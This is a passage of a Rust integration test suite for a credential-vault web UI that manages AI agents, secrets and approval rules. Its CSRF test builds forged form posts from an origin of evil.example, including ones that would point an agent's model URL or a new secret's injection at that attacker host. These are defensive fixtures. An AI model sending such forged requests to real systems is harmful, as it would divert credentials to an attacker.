//! Managing Palisade from the web UI, over real HTTP on 127.0.0.1 (reqwest): agents,
//! secrets and rules created, changed and deleted through forms; an agent's dial turned
//! (and in force at a running vault when the page answers) and its agent-to-agent
//! allow-list changed; rules suggested from repeated approvals, created only when
//! accepted; bad input answered
//! with exactly the line the shared code (the CLI's) gives; every new form refused
//! without the CSRF token or with a foreign origin, changing nothing; destructive
//! actions behind a confirmation; a secret's value in no page; the rule preview; the
//! charts; and the first-run form, which stores the key in the vault and picks the
//! newest model of the default family from the provider's list, asked through a real
//! in-process vault (with the testkit's fake Anthropic API on 127.0.0.1 over TLS).
//! The host runs in-process; no runner is ever started here.

mod common;

use palisade_host::api::ApiTokens;
use palisade_host::{Host, HostConfig, HostError, RunnerLauncher, RunnerProcess};
use palisade_policy::{AgentName, Profile};
use palisade_store::{AuditEntry, AuditFilter, Home, Outcome, Store};
use palisade_testkit::{ScriptedTurn, TestCa, Upstream};
use reqwest::StatusCode;
use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

const VALUE: &str = "ghp_Web-Form-Value-9c1d-NEVER-SHOWN";
const ROTATED: &str = "ghp_Rotated-Value-7e2a-NEVER-SHOWN";
const MODEL_KEY: &str = "sk-ant-first-run-3f9b-NEVER-SHOWN";

struct NoRunner;

impl RunnerLauncher for NoRunner {
    fn launch(
        &self,
        agent: &AgentName,
        _host_socket: &Path,
    ) -> Result<Box<dyn RunnerProcess>, HostError> {
        Err(HostError::Runner(format!(
            "no runners in these tests (agent {agent})"
        )))
    }
}

struct Web {
    _dir: tempfile::TempDir,
    home: Home,
    store: Store,
    /// The cookie of the session [`Web::start`] logged in with.
    session: String,
    addr: SocketAddr,
    client: reqwest::Client,
    stop: tokio::sync::watch::Sender<bool>,
    host: Host,
    vault: Option<(palisade_vault::Gateway, Upstream, TestCa)>,
}

impl Web {
    /// A home with agent `helper`; with `vault`, a real gateway and a fake model API.
    async fn start(vault: bool) -> Web {
        let dir = tempfile::tempdir().unwrap();
        let home = Home::at(dir.path().join("home"));
        let store = Store::open(&home).unwrap();
        store
            .create_agent(&AgentName::new("helper").unwrap(), Profile::Research)
            .unwrap();
        let vault = if vault {
            let ca = TestCa::new().unwrap();
            let upstream = Upstream::start(&ca).unwrap();
            let mut config = palisade_vault::VaultConfig::new(home.clone());
            config.upstream_ca = vec![ca.pem_path().to_path_buf()];
            config.allow_local_upstream = vec!["localhost".into()];
            // The standalone listener too, so a test can send as an agent with curl.
            config.listen = Some("127.0.0.1:0".parse().unwrap());
            let gateway = palisade_vault::Gateway::start(config).await.unwrap();
            Some((gateway, upstream, ca))
        } else {
            None
        };
        let host = Host::start(
            store.clone(),
            HostConfig::new(home.clone()),
            std::sync::Arc::new(NoRunner),
        )
        .await
        .unwrap();
        let tokens = ApiTokens::generate();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let (stop, stopped) = tokio::sync::watch::channel(false);
        let app = palisade_web::app(host.clone(), tokens.clone(), stopped.clone(), addr);
        tokio::spawn(palisade_web::serve(listener, app, stopped));
        let client = reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .timeout(Duration::from_secs(60))
            .no_proxy()
            .build()
            .unwrap();
        // With a link of its own: the printed one is left for the tests of logging in.
        let session =
            common::log_in(&client, &format!("http://{addr}"), &tokens.logins.issue()).await;
        Web {
            _dir: dir,
            home,
            store,
            session,
            addr,
            client,
            stop,
            host,
            vault,
        }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{}", self.addr, path)
    }

    fn cookie(&self) -> String {
        self.session.clone()
    }

    fn origin(&self) -> String {
        format!("http://{}", self.addr)
    }

    async fn csrf(&self) -> String {
        let page = self.page("/agents").await;
        let marker = "name=\"csrf-token\" content=\"";
        let start = page.find(marker).expect("csrf meta") + marker.len();
        page[start..start + 64].to_string()
    }

    async fn get(&self, path: &str) -> reqwest::Response {
        self.client
            .get(self.url(path))
            .header("cookie", self.cookie())
            .send()
            .await
            .unwrap()
    }

    async fn page(&self, path: &str) -> String {
        let response = self.get(path).await;
        assert_eq!(response.status(), StatusCode::OK, "GET {path}");
        response.text().await.unwrap()
    }

    /// A form post as our own page sends it (cookie, token, origin).
    async fn post(&self, path: &str, form: &[(&str, &str)]) -> reqwest::Response {
        let csrf = self.csrf().await;
        let mut fields: Vec<(&str, &str)> = form.to_vec();
        fields.push(("csrf", &csrf));
        self.client
            .post(self.url(path))
            .header("cookie", self.cookie())
            .header("origin", self.origin())
            .form(&fields)
            .send()
            .await
            .unwrap()
    }

    /// Posts and expects a redirect; returns where to.
    async fn post_ok(&self, path: &str, form: &[(&str, &str)]) -> String {
        let response = self.post(path, form).await;
        let status = response.status();
        let location = response
            .headers()
            .get("location")
            .map(|l| l.to_str().unwrap().to_string());
        let body = response.text().await.unwrap();
        assert_eq!(status, StatusCode::SEE_OTHER, "POST {path}: {body}");
        location.unwrap()
    }

    /// Posts input that must be refused; returns the error line the page shows.
    async fn post_refused(&self, path: &str, form: &[(&str, &str)]) -> String {
        let response = self.post(path, form).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "POST {path}");
        form_error(&response.text().await.unwrap())
    }

    async fn stop(self) {
        let _ = self.stop.send(true);
        self.host.shutdown().await;
        if let Some((gateway, _, _)) = self.vault {
            gateway.shutdown().await;
        }
    }
}

/// The text of the page's `#form-error` box, unescaped.
fn form_error(page: &str) -> String {
    let marker = "id=\"form-error\" role=\"alert\">";
    let start = page
        .find(marker)
        .unwrap_or_else(|| panic!("no form error on the page: {page}"))
        + marker.len();
    let end = start + page[start..].find("</p>").unwrap();
    unescape(&page[start..end])
}

fn unescape(html: &str) -> String {
    html.replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// The page's element with `id` (from its opening tag to the next `</tag>` of the same
/// name), unescaped.
fn element(page: &str, tag: &str, id: &str) -> String {
    let at = page
        .find(&format!(" id=\"{id}\""))
        .unwrap_or_else(|| panic!("no #{id} on the page: {page}"));
    let start = page[..at].rfind(&format!("<{tag}")).unwrap();
    let end = start + page[start..].find(&format!("</{tag}>")).unwrap();
    unescape(&page[start..end])
}

/// Everything the store holds that a form could change.
fn snapshot(store: &Store) -> String {
    let policy = store.load_policy().unwrap();
    let values: Vec<String> = policy
        .secrets()
        .iter()
        .map(|s| s.value.expose().to_string())
        .collect();
    format!(
        "{}\n{}\n{}\n{:?}\n{}\n{}\n{:?}",
        serde_json::to_string(&store.list_agents().unwrap()).unwrap(),
        serde_json::to_string(&store.list_secrets().unwrap()).unwrap(),
        serde_json::to_string(&store.list_rules().unwrap()).unwrap(),
        values,
        serde_json::to_string(&store.list_agent_links(None).unwrap()).unwrap(),
        store.list_audit(&AuditFilter::default()).unwrap().len(),
        store.audit_retention().unwrap(),
    )
}

const DAY: Duration = Duration::from_secs(24 * 60 * 60);

/// `count` approvals of `helper`'s `method api.example.com path`, held by rule
/// `ask-posts`, decided (approved or denied) by Ana on Slack a minute after being asked.
fn record_approvals(store: &Store, method: &str, path: &str, approve: bool, count: usize) {
    for _ in 0..count {
        let approval = store
            .create_approval(palisade_store::NewApproval {
                kind: "credential_use".into(),
                agent: AgentName::new("helper").unwrap(),
                title: format!("{method} api.example.com{path}"),
                lines: vec![],
                detail: String::new(),
                context: serde_json::json!({
                    "method": method, "host": "api.example.com", "port": 443, "path": path, "rule": "ask-posts",
                }),
                expires_at_ms: palisade_store::now_ms() + 600_000,
                holder: None,
                request_key: None,
            })
            .unwrap();
        store
            .decide_approval(
                &approval.id,
                &palisade_store::ApprovalDecision {
                    approve,
                    approver: "Ana (slack:team)".into(),
                    comment: None,
                    choice: if approve { "once" } else { "deny" }.into(),
                    approver_channel: "slack".into(),
                    approver_user: "U1".into(),
                    approver_name: "Ana".into(),
                    grant: None,
                },
            )
            .unwrap();
    }
}

/// The rule that holds `record_approvals`' requests.
fn create_holding_rule(store: &Store) -> palisade_store::RuleRecord {
    store
        .create_rule(
            palisade_store::input::RuleDraft {
                name: "ask-posts".into(),
                host_pattern: "api.example.com".into(),
                method: "POST".into(),
                action: "require_approval".into(),
                priority: 5,
                scope: "user".into(),
                ..Default::default()
            }
            .check(palisade_store::now_ms())
            .unwrap(),
        )
        .unwrap()
}

fn create_secret(store: &Store, name: &str, value: &str) {
    let checked = palisade_store::input::SecretDraft {
        name: name.into(),
        host_pattern: "api.github.com".into(),
        inject: "bearer".into(),
        agents: vec!["helper".into()],
        ..Default::default()
    }
    .check()
    .unwrap();
    store
        .create_secret(checked.with_value(palisade_policy::SecretValue::new(value.into())))
        .unwrap();
}

/// A secret is granted from the agent's page: its form offers the secrets the agent
/// lacks (never a sensitive one to a research agent), the grant is in force when the
/// answer comes, and a refused grant says why on the page and changes nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_is_granted_from_the_agents_page() {
    let web = Web::start(false).await;
    let mailer = AgentName::new("mailer").unwrap();
    web.store.create_agent(&mailer, Profile::Action).unwrap();
    create_secret(&web.store, "gh", VALUE);
    let bank = palisade_store::input::SecretDraft {
        name: "bank".into(),
        host_pattern: "bank.example".into(),
        inject: "bearer".into(),
        sensitive: true,
        ..Default::default()
    }
    .check()
    .unwrap();
    web.store
        .create_secret(bank.with_value(palisade_policy::SecretValue::new(VALUE.into())))
        .unwrap();

    // Nor one for hosts of many owners (every site a research agent visits would get it).
    let everywhere = palisade_store::input::SecretDraft {
        name: "everywhere".into(),
        host_pattern: "*.com".into(),
        inject: "bearer".into(),
        ..Default::default()
    }
    .check()
    .unwrap();
    web.store
        .create_secret(everywhere.with_value(palisade_policy::SecretValue::new(VALUE.into())))
        .unwrap();
    // The secret's own page offers bank to mailer, not to helper.
    let bank_page = web.page("/vault/secrets/bank").await;
    let form = bank_page
        .split("id=\"grant-form\"")
        .nth(1)
        .and_then(|rest| rest.split("</form>").next())
        .expect("a grant form on bank's page");
    assert!(
        form.contains("value=\"mailer\"") && !form.contains("value=\"helper\""),
        "{form}"
    );

    // helper (research) has gh already and may not have bank or everywhere: nothing to
    // offer.
    let helper_page = web.page("/agents/helper").await;
    assert!(!helper_page.contains("agent-grant-form"), "{helper_page}");
    let mailer_page = web.page("/agents/mailer").await;
    let form = mailer_page
        .split("id=\"agent-grant-form\"")
        .nth(1)
        .and_then(|rest| rest.split("</form>").next())
        .expect("a grant form on mailer's page");
    assert!(
        form.contains("value=\"gh\"") && form.contains("value=\"bank\""),
        "{form}"
    );
    // The form carries its CSRF token, as a browser sends it (it had none: every
    // press of Grant was refused).
    assert!(form.contains("name=\"csrf\""), "{form}");

    assert_eq!(
        web.post_ok("/agents/mailer/grant", &[("secret", "bank")])
            .await,
        "/agents/mailer?saved=granted"
    );
    let policy = web.store.load_policy().unwrap();
    assert!(policy
        .secrets()
        .iter()
        .any(|s| s.name == "bank" && s.agents.contains(&mailer)));
    let page = web.page("/agents/mailer?saved=granted").await;
    assert!(page.contains("Granted: the vault injects it"), "{page}");

    let before = snapshot(&web.store);
    let refused = web
        .post_refused("/agents/helper/grant", &[("secret", "bank")])
        .await;
    assert!(refused.contains("research"), "{refused}");
    assert!(!refused.contains("invalid value"), "{refused}");
    let refused = web
        .post_refused("/vault/secrets/bank/grant", &[("agent", "helper")])
        .await;
    assert!(
        refused.contains("research") && !refused.contains("invalid value"),
        "{refused}"
    );
    let refused = web
        .post_refused("/agents/mailer/grant", &[("secret", "nosuch")])
        .await;
    assert!(refused.contains("nosuch"), "{refused}");
    assert_eq!(snapshot(&web.store), before);
    common::assert_audited_as_admin(&web.store, None, &["secret.grant"]);
    web.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_new_form_is_refused_without_the_csrf_token_or_from_another_origin() {
    let web = Web::start(false).await;
    create_secret(&web.store, "gh", VALUE);
    let rule = web
        .store
        .create_rule(
            palisade_store::input::RuleDraft {
                name: "r".into(),
                host_pattern: "api.example.com".into(),
                method: "*".into(),
                action: "block".into(),
                scope: "user".into(),
                ..Default::default()
            }
            .check(palisade_store::now_ms())
            .unwrap(),
        )
        .unwrap();
    // An allow-list entry to disallow, and a suggestion to accept.
    let (helper, mailer) = (
        AgentName::new("helper").unwrap(),
        AgentName::new("mailer").unwrap(),
    );
    web.store.create_agent(&mailer, Profile::Action).unwrap();
    web.store
        .allow_agent(&helper, &mailer, false, false)
        .unwrap();
    create_holding_rule(&web.store);
    record_approvals(&web.store, "POST", "/labels", true, 3);
    let suggested = palisade_approvals::suggest::load(&web.store, DAY * 7, 3).unwrap();
    assert_eq!(suggested.len(), 1, "{suggested:?}");
    let suggested = suggested[0].rule_name.clone();
    let before = snapshot(&web.store);
    let csrf = web.csrf().await;
    let id = rule.id.to_string();
    let forms: Vec<(String, Vec<(&str, &str)>)> = vec![
        ("/agents/helper/dial".into(), vec![("preset", "relaxed")]),
        (
            "/agents/helper/dial".into(),
            vec![("approvals", "never"), ("sanitize", "relaxed")],
        ),
        (
            "/agents/helper/links".into(),
            vec![("direction", "from"), ("agent", "mailer"), ("approve", "")],
        ),
        (
            "/agents/helper/links/remove?from=helper&to=mailer".into(),
            vec![],
        ),
        (
            "/approvals/suggest/accept".into(),
            vec![
                ("number", "1"),
                ("rule", &suggested),
                ("since", "7d"),
                ("min", "3"),
            ],
        ),
        ("/agents".into(), vec![("name", "intruder")]),
        (
            "/agents/helper/settings".into(),
            vec![
                ("provider", "openai"),
                ("base_url", "http://evil.example"),
                ("model", "x"),
                ("profile", "action"),
            ],
        ),
        (
            "/agents/helper/instructions".into(),
            vec![("instructions", "PWNED")],
        ),
        ("/agents/helper/delete".into(), vec![]),
        (
            "/vault/secrets".into(),
            vec![
                ("name", "stolen"),
                ("host_pattern", "evil.example"),
                ("inject", "bearer"),
                ("agent", "helper"),
                ("value", "x"),
            ],
        ),
        (
            "/vault/secrets/gh/rotate".into(),
            vec![("value", "PWNED"), ("confirm", "yes")],
        ),
        ("/vault/secrets/gh/grant".into(), vec![("agent", "helper")]),
        ("/agents/mailer/grant".into(), vec![("secret", "gh")]),
        ("/vault/secrets/gh/revoke?agent=helper".into(), vec![]),
        ("/vault/secrets/gh/delete".into(), vec![]),
        (
            "/vault/rules".into(),
            vec![
                ("name", "open"),
                ("host_pattern", "*"),
                ("action", "allow"),
                ("intent", "save"),
            ],
        ),
        (
            format!("/vault/rules/{id}/edit"),
            vec![
                ("name", "r"),
                ("host_pattern", "*"),
                ("action", "allow"),
                ("intent", "save"),
            ],
        ),
        (
            format!("/vault/rules/{id}/enabled"),
            vec![("enabled", "false")],
        ),
        (format!("/vault/rules/{id}/delete"), vec![]),
        (
            "/setup/model-key".into(),
            vec![
                ("agent", "helper"),
                ("provider", "anthropic"),
                ("key", "k"),
                ("base_url", "https://evil.example"),
            ],
        ),
        ("/health/online".into(), vec![]),
        ("/audit/retention".into(), vec![("keep", "1d")]),
    ];
    let wrong = "0".repeat(64);
    for (path, form) in &forms {
        for (what, token, origin) in [
            ("no token", None, Some(web.origin())),
            ("a wrong token", Some(wrong.as_str()), Some(web.origin())),
            (
                "another origin",
                Some(csrf.as_str()),
                Some("http://evil.example".to_string()),
            ),
            ("no origin", Some(csrf.as_str()), None),
        ] {
            let mut fields = form.clone();
            if let Some(token) = token {
                fields.push(("csrf", token));
            }
            let mut request = web
                .client
                .post(web.url(path))
                .header("cookie", web.cookie())
                .form(&fields);
            if let Some(origin) = &origin {
                request = request.header("origin", origin);
            }
            let response = request.send().await.unwrap();
            assert_eq!(
                response.status(),
                StatusCode::FORBIDDEN,
                "{path} with {what} was not refused"
            );
        }
    }
    assert_eq!(
        snapshot(&web.store),
        before,
        "a refused form changed something"
    );
    web.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agents_are_created_changed_and_deleted_with_the_clis_checks() {
    let web = Web::start(false).await;
    let to = web
        .post_ok(
            "/agents",
            &[
                ("name", "mailer"),
                ("profile", "action"),
                ("provider", "openai"),
                ("model", "llama3"),
                ("base_url", "http://127.0.0.1:8080/v1"),
                ("concurrency", "2"),
                ("idle_timeout", "1h"),
                ("turn_timeout", ""),
                ("workspace_quota", "2G"),
                ("instructions", "Be brief.\r\n"),
            ],
        )
        .await;
    assert_eq!(to, "/agents/mailer?saved=created");
    let mailer = web
        .store
        .get_agent(&AgentName::new("mailer").unwrap())
        .unwrap();
    assert_eq!(mailer.profile, Profile::Action);
    assert_eq!(mailer.settings["provider"], "openai");
    assert_eq!(mailer.settings["base_url"], "http://127.0.0.1:8080/v1");
    assert_eq!(mailer.settings["concurrency"], 2);
    assert_eq!(mailer.settings["idle_timeout_secs"], 3600);
    assert_eq!(mailer.settings["workspace_quota_bytes"], 2u64 << 30);
    let instructions = std::fs::read_to_string(palisade_host::settings::instructions_path(
        &web.home, "mailer",
    ))
    .unwrap();
    assert_eq!(instructions, "Be brief.\n");
    let page = web.page("/agents/mailer?saved=created").await;
    assert!(page.contains("Agent created."), "{page}");
    assert!(page.contains("value=\"2G\""), "{page}");

    // The same draft through the shared code, on a second home: the same agent.
    let other = tempfile::tempdir().unwrap();
    let other = Store::open(&Home::at(other.path().join("h"))).unwrap();
    let direct = palisade_host::agents::create(
        &other,
        "mailer",
        &palisade_host::agents::AgentDraft {
            profile: Some("action".into()),
            provider: Some("openai".into()),
            model: Some("llama3".into()),
            base_url: Some("http://127.0.0.1:8080/v1".into()),
            concurrency: Some("2".into()),
            idle_timeout: Some("1h".into()),
            workspace_quota: Some("2G".into()),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(direct.settings, mailer.settings);

    // Bad input: the page shows exactly the shared code's line, and nothing is written.
    let before = snapshot(&web.store);
    for (form, draft) in [
        (
            vec![("name", "Bad Name")],
            palisade_host::agents::AgentDraft::default(),
        ),
        (
            vec![("name", "x"), ("turn_timeout", "soon")],
            palisade_host::agents::AgentDraft {
                turn_timeout: Some("soon".into()),
                ..Default::default()
            },
        ),
        (
            vec![("name", "x"), ("provider", "openai"), ("model", "m")],
            palisade_host::agents::AgentDraft {
                provider: Some("openai".into()),
                model: Some("m".into()),
                ..Default::default()
            },
        ),
        // A new provider without a model (the form's model left empty), as the CLI
        // refuses it: the default model is Claude's.
        (
            vec![("name", "x"), ("provider", "openai"), ("model", "")],
            palisade_host::agents::AgentDraft {
                provider: Some("openai".into()),
                model: Some(String::new()),
                ..Default::default()
            },
        ),
        (
            vec![("name", "x"), ("concurrency", "9")],
            palisade_host::agents::AgentDraft {
                concurrency: Some("9".into()),
                ..Default::default()
            },
        ),
        (
            vec![("name", "helper")],
            palisade_host::agents::AgentDraft::default(),
        ),
    ] {
        let shown = web.post_refused("/agents", &form).await;
        let name = form[0].1;
        let expected = palisade_host::agents::create(&web.store, name, &draft)
            .unwrap_err()
            .to_string();
        assert_eq!(shown, expected, "{form:?}");
    }
    assert_eq!(snapshot(&web.store), before);

    // Settings: a refused edit shows the line and keeps the agent; a good one saves.
    let shown = web
        .post_refused(
            "/agents/mailer/settings",
            &[
                ("profile", "action"),
                ("provider", "openai"),
                ("model", "llama3"),
                ("base_url", "ftp://x"),
            ],
        )
        .await;
    assert!(shown.contains("base URL \"ftp://x\" is invalid"), "{shown}");
    assert_eq!(snapshot(&web.store), before);
    web.post_ok(
        "/agents/mailer/settings",
        &[
            ("profile", "research"),
            ("provider", "anthropic"),
            ("model", "claude-opus-4-6"),
            ("base_url", ""),
            ("concurrency", ""),
            ("idle_timeout", "1h"),
            ("turn_timeout", "5m"),
            ("workspace_quota", "2G"),
        ],
    )
    .await;
    let mailer = web
        .store
        .get_agent(&AgentName::new("mailer").unwrap())
        .unwrap();
    assert_eq!(mailer.profile, Profile::Research);
    assert_eq!(mailer.settings["model"], "claude-opus-4-6");
    assert!(
        mailer.settings.get("base_url").is_none(),
        "{}",
        mailer.settings
    );
    assert!(mailer.settings.get("concurrency").is_none());
    assert_eq!(mailer.settings["turn_timeout_secs"], 300);

    // Deleting asks first; the confirmation page alone changes nothing.
    let confirm = web.page("/agents/mailer/delete").await;
    assert!(
        confirm.contains("Delete the agent")
            && confirm.contains("action=\"/agents/mailer/delete\"")
    );
    assert!(web
        .store
        .get_agent(&AgentName::new("mailer").unwrap())
        .is_ok());
    assert_eq!(
        web.post_ok("/agents/mailer/delete", &[]).await,
        "/agents?deleted=mailer"
    );
    assert!(web
        .store
        .get_agent(&AgentName::new("mailer").unwrap())
        .is_err());
    // The list says what happened, and where the workspace stays.
    let list = web.page("/agents?deleted=mailer").await;
    let flash = element(&list, "p", "deleted");
    assert!(
        flash.contains("mailer") && flash.contains("agents/mailer/workspace"),
        "{flash}"
    );
    // A name that is not one is not shown back.
    let list = web.page("/agents?deleted=%3Cb%3Ex").await;
    assert!(!list.contains("id=\"deleted\""));

    common::assert_audited_as_admin(
        &web.store,
        Some("mailer"),
        &[
            "agent.create",
            "agent.update",
            "agent.instructions",
            "agent.delete",
        ],
    );
    web.stop().await;
}

/// The secret and rule forms take a host pattern with a port, keep it, and show it;
/// a bad port gets the shared code's one line naming what was typed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secret_and_rule_forms_take_a_port() {
    let web = Web::start(false).await;
    let to = web
        .post_ok(
            "/vault/secrets",
            &[
                ("name", "local-llm"),
                ("host_pattern", "[::1]:8080"),
                ("inject", "bearer"),
                ("agent", "helper"),
                ("value", VALUE),
            ],
        )
        .await;
    assert_eq!(to, "/vault/secrets/local-llm?saved=created");
    assert_eq!(
        web.store.get_secret("local-llm").unwrap().host_pattern,
        "[::1]:8080"
    );
    assert!(web
        .page("/vault/secrets/local-llm")
        .await
        .contains("[::1]:8080"));
    assert!(web.page("/vault").await.contains("[::1]:8080"));
    let refused = web
        .post_refused(
            "/vault/secrets",
            &[
                ("name", "x"),
                ("host_pattern", "127.0.0.1:0"),
                ("inject", "bearer"),
                ("value", VALUE),
            ],
        )
        .await;
    assert!(
        refused.contains("127.0.0.1:0") && refused.contains("port 0"),
        "{refused}"
    );

    web.post_ok(
        "/vault/rules",
        &[
            ("name", "no-console"),
            ("host_pattern", "*.example.com:8443"),
            ("action", "block"),
            ("intent", "save"),
        ],
    )
    .await;
    assert_eq!(
        web.store.get_rule("no-console").unwrap().host_pattern,
        "*.example.com:8443"
    );
    let refused = web
        .post_refused(
            "/vault/rules",
            &[
                ("name", "other"),
                ("host_pattern", "*:8443"),
                ("action", "block"),
                ("intent", "save"),
            ],
        )
        .await;
    assert!(refused.contains("takes no port"), "{refused}");
    assert_eq!(web.store.list_rules().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_are_written_only_never_shown_and_changes_ask_first() {
    let web = Web::start(false).await;
    web.store
        .create_agent(&AgentName::new("mailer").unwrap(), Profile::Action)
        .unwrap();
    let to = web
        .post_ok(
            "/vault/secrets",
            &[
                ("name", "gh"),
                ("host_pattern", "api.github.com"),
                ("path_pattern", "/repos/*"),
                ("inject", "header:Authorization:token {value}"),
                ("agent", "helper"),
                ("agent", "mailer"),
                ("priority", "3"),
                ("value", VALUE),
            ],
        )
        .await;
    assert_eq!(to, "/vault/secrets/gh?saved=created");
    let secret = web.store.get_secret("gh").unwrap();
    assert_eq!(secret.agents.len(), 2);
    assert_eq!(secret.injection, "header:authorization:token {value}");
    assert_eq!(secret.priority, 3);
    assert_eq!(
        web.store.load_policy().unwrap().secrets()[0].value.expose(),
        VALUE
    );

    // Bad input gets the shared code's line; the value typed is not echoed back.
    let before = snapshot(&web.store);
    for (form, needle) in [
        (
            vec![
                ("name", "gh"),
                ("host_pattern", "api.github.com"),
                ("inject", "bearer"),
                ("value", VALUE),
            ],
            "already exists",
        ),
        (
            vec![
                ("name", "x"),
                ("host_pattern", "a.*.com"),
                ("inject", "bearer"),
                ("value", VALUE),
            ],
            "host pattern",
        ),
        (
            vec![
                ("name", "x"),
                ("host_pattern", "a.com"),
                ("inject", "cookie"),
                ("value", VALUE),
            ],
            "injection",
        ),
        (
            vec![
                ("name", "x"),
                ("host_pattern", "a.com"),
                ("inject", "bearer"),
                ("agent", "ghost"),
                ("value", VALUE),
            ],
            "agent \"ghost\" not found",
        ),
        (
            vec![
                ("name", "x"),
                ("host_pattern", "a.com"),
                ("inject", "bearer"),
                ("value", ""),
            ],
            "the secret value is empty",
        ),
        (
            vec![
                ("name", "x"),
                ("host_pattern", "a.com"),
                ("inject", "bearer"),
                ("agent", "helper"),
                ("sensitive", "true"),
                ("value", VALUE),
            ],
            "research profile",
        ),
    ] {
        let response = web.post("/vault/secrets", &form).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{form:?}");
        let page = response.text().await.unwrap();
        assert!(
            form_error(&page).contains(needle),
            "{needle}: {}",
            form_error(&page)
        );
        assert!(!page.contains(VALUE), "the refused form echoed the value");
    }
    assert_eq!(snapshot(&web.store), before);

    // Rotate: only the value changes; an empty one is refused, and so is one whose
    // confirmation box was not ticked.
    let refused = web
        .post_refused(
            "/vault/secrets/gh/rotate",
            &[("value", ""), ("confirm", "yes")],
        )
        .await;
    assert!(refused.contains("the secret value is empty"), "{refused}");
    let unconfirmed = web
        .post_refused("/vault/secrets/gh/rotate", &[("value", ROTATED)])
        .await;
    assert!(unconfirmed.contains("tick the box"), "{unconfirmed}");
    assert_eq!(
        web.store.load_policy().unwrap().secrets()[0].value.expose(),
        VALUE
    );
    web.post_ok(
        "/vault/secrets/gh/rotate",
        &[("value", ROTATED), ("confirm", "yes")],
    )
    .await;
    assert_eq!(
        web.store.load_policy().unwrap().secrets()[0].value.expose(),
        ROTATED
    );
    assert_eq!(web.store.get_secret("gh").unwrap().agents.len(), 2);

    // Revoking and deleting ask first.
    let confirm = web.page("/vault/secrets/gh/revoke?agent=mailer").await;
    assert!(confirm.contains("Revoke the grant"));
    assert_eq!(web.store.get_secret("gh").unwrap().agents.len(), 2);
    web.post_ok("/vault/secrets/gh/revoke?agent=mailer", &[])
        .await;
    assert_eq!(
        web.store.get_secret("gh").unwrap().agents,
        vec![AgentName::new("helper").unwrap()]
    );
    web.post_ok("/vault/secrets/gh/grant", &[("agent", "mailer")])
        .await;
    assert_eq!(web.store.get_secret("gh").unwrap().agents.len(), 2);

    // No page shows the value, nor its parts.
    let mut pages = vec![
        "/".to_string(),
        "/vault".into(),
        "/vault/secrets/gh".into(),
        "/vault/secrets/gh/delete".into(),
        "/vault/secrets/gh/revoke?agent=helper".into(),
        "/vault/secrets/new".into(),
        "/agents/helper".into(),
        "/agents/mailer".into(),
        "/audit".into(),
        "/health".into(),
    ];
    pages.push("/audit?limit=200".into());
    for path in &pages {
        let page = web.page(path).await;
        for value in [VALUE, ROTATED] {
            for part in [value, &value[4..20], &value[value.len() - 12..]] {
                assert!(!page.contains(part), "{path} shows {part}");
            }
            assert!(
                !page.contains(&hex_of(value)),
                "{path} shows the value in hex"
            );
        }
    }
    // Nor does the database file, in plain text.
    web.store.checkpoint().unwrap();
    let database = std::fs::read(web.home.database()).unwrap();
    for value in [VALUE, ROTATED] {
        assert!(
            !database.windows(value.len()).any(|w| w == value.as_bytes()),
            "the database holds {value} in plain text"
        );
    }

    assert!(web
        .page("/vault/secrets/gh/delete")
        .await
        .contains("Delete the secret"));
    assert!(web.store.get_secret("gh").is_ok());
    assert_eq!(web.post_ok("/vault/secrets/gh/delete", &[]).await, "/vault");
    assert!(web.store.get_secret("gh").is_err());
    common::assert_audited_as_admin(
        &web.store,
        None,
        &[
            "secret.create",
            "secret.rotate",
            "secret.revoke",
            "secret.grant",
            "secret.delete",
        ],
    );
    web.stop().await;
}

fn hex_of(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_are_previewed_created_edited_disabled_and_deleted() {
    let web = Web::start(false).await;
    // Recent requests in the audit log, as the vault writes them.
    for (agent, method, path, decision) in [
        (
            "helper",
            "POST",
            "/gmail/v1/users/me/messages/send",
            "injected",
        ),
        ("helper", "GET", "/gmail/v1/users/me/messages", "injected"),
        (
            "other",
            "POST",
            "/gmail/v1/users/me/messages/send",
            "blocked",
        ),
    ] {
        web.store
            .append_audit(&AuditEntry {
                event: "request".into(),
                agent: Some(agent.into()),
                method: Some(method.into()),
                host: Some("gmail.googleapis.com".into()),
                path: Some(path.into()),
                decision: Some(decision.into()),
                ..Default::default()
            })
            .unwrap();
    }
    // The new rule's method and priority start empty, as their hints say: a box
    // prefilled with "*" became "*POST" when someone typed into it.
    let blank = web.page("/vault/rules/new").await;
    for field in ["method", "priority"] {
        assert!(
            blank.contains(&format!("name=\"{field}\" value=\"\"")),
            "{field} is prefilled: {blank}"
        );
    }
    let form = [
        ("name", "ask-before-send"),
        ("host_pattern", "gmail.googleapis.com"),
        ("path_pattern", "/gmail/v1/users/*/messages/send"),
        ("method", "POST"),
        ("action", "require_approval"),
        ("agent", "helper"),
        ("priority", "5"),
        ("approval_timeout", "5m"),
        ("scope", "user"),
    ];
    let mut preview = form.to_vec();
    preview.push(("intent", "preview"));
    let response = web.post("/vault/rules", &preview).await;
    assert_eq!(response.status(), StatusCode::OK);
    let page = response.text().await.unwrap();
    assert!(page.contains("id=\"preview-count\">1<"), "{page}");
    assert!(page.contains("/gmail/v1/users/me/messages/send"));
    assert!(
        web.store.list_rules().unwrap().is_empty(),
        "a preview created a rule"
    );

    let mut save = form.to_vec();
    save.push(("intent", "save"));
    web.post_ok("/vault/rules", &save).await;
    let rule = web.store.get_rule("ask-before-send").unwrap();
    assert_eq!(rule.action, "require_approval");
    assert_eq!(rule.approval_timeout_ms, Some(300_000));
    assert_eq!(rule.agent, Some(AgentName::new("helper").unwrap()));

    // The shared code's lines for bad input.
